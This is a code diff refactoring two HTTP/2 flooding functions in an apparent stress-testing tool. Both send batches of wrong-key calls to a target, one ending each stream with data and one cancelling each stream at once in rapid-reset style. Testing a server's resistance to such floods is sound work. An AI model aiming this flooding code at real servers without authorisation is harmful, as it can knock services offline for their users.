@@ -149,32 +149,25 @@ def continuation(target: str, seconds: float) -> int:
 
 def wrong_keys(target: str, seconds: float) -> int:
     """Whole calls, each with a wrong key."""
-    block = call_headers(INFO, WRONG_KEY)
     message = http2.message(b"")
-
-    def batches() -> Iterator[bytes]:
-        for first in itertools.count(1, 2 * BATCH):
-            yield b"".join(
-                frame(HEADERS, END_HEADERS, stream, block) + frame(DATA, END_STREAM, stream, message)
-                for stream in range(first, first + 2 * BATCH, 2)
-            )
-            time.sleep(0.02)
-
-    return flood(target, seconds, batches)
+    return refused_calls(target, seconds, lambda stream: frame(DATA, END_STREAM, stream, message), pause=0.02)
 
 
 def rapid_reset(target: str, seconds: float) -> int:
     """Calls that are cancelled as soon as they are made."""
-    block = call_headers(INFO, WRONG_KEY)
     reset = struct.pack(">I", CANCEL)
+    return refused_calls(target, seconds, lambda stream: frame(RST_STREAM, 0, stream, reset), pause=0.01)
+
+
+def refused_calls(target: str, seconds: float, rest: Callable[[int], bytes], *, pause: float) -> int:
+    """Calls with a wrong key, a batch of streams at once. rest: what follows the headers on a stream."""
+    block = call_headers(INFO, WRONG_KEY)
 
     def batches() -> Iterator[bytes]:
         for first in itertools.count(1, 2 * BATCH):
-            yield b"".join(
-                frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, reset)
-                for stream in range(first, first + 2 * BATCH, 2)
-            )
-            time.sleep(0.01)
+            streams = range(first, first + 2 * BATCH, 2)
+            yield b"".join(frame(HEADERS, END_HEADERS, stream, block) + rest(stream) for stream in streams)
+            time.sleep(pause)
 
     return flood(target, seconds, batches)
 
